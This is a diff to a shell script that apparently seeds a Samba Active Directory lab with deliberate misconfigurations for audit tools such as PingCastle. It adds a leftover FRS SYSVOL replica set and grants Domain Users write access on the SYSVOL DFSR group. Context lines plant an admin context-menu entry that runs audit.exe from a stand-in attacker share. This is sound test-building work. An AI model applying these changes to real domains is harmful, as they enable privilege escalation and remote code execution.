@@ -257,6 +257,15 @@ rm -f "$W/asrep_user.pw"
 # user objects that runs a program from a share outside SYSVOL
 printf 'dn: CN=user-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,%s\nchangetype: modify\nadd: adminContextMenu\nadminContextMenu: 9,&Password audit,\\\\files.attacker.test\\tools\\audit.exe\n' "$B" \
   | try "adminContextMenu running \\\\files.attacker.test\\tools\\audit.exe on user-Display (409)"
+# SYSVOL (AD-DOM-014, AD-ACL-015): an FRS replica set for SYSVOL left
+# behind (Samba itself replicates nothing; PingCastle's A-NTFRSOnSysvol
+# reads only this object), and write access for Domain Users on the DFSR
+# replication group of SYSVOL
+printf 'dn: CN=Domain System Volume (SYSVOL share),CN=File Replication Service,CN=System,%s\nchangetype: add\nobjectClass: nTFRSReplicaSet\n' "$B" \
+  | try "FRS replica set Domain System Volume (SYSVOL share)"
+if out=$(samba-tool dsacl set --objectdn="CN=Domain System Volume,CN=DFSR-GlobalSettings,CN=System,$B" --sddl="(A;;WP;;;DU)" -s "$CONF" 2>&1); then
+  log "OK    samba-tool dsacl set: write property for Domain Users on the DFSR replication group of SYSVOL"
+else log "REFUSED samba-tool dsacl set on Domain System Volume: $(echo "$out" | tail -1)"; fi
 # changes in the incident window on objects older than it, dated only by
 # their replication metadata (AD-ACL-012, AD-PRV-022): an ACE for Domain
 # Admins on AdminSDHolder (a trusted holder: no ACL finding), and one more
